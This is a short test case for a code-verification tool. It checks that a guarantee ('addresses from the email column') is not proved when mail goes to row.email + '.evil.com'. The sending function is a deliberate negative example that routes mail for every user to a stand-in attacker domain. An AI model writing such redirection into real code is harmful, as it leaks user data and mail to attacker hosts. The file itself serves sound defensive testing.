# The column is resolved at the call site: with field "email" a message to
# another string computed from it is not an address from the email column
# (refused: failed with a counterexample, or undecided in time on a busy
# machine; never proved).
# expect: not proved
# want: ✗ main:
import clauz3
from tools.db.trusted.effects import db_query
from tools.db.trusted.schemas import UserRow
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
def main() -> None:
    for row in db_query("users"):
        send_email(row.email + ".evil.com", "x")
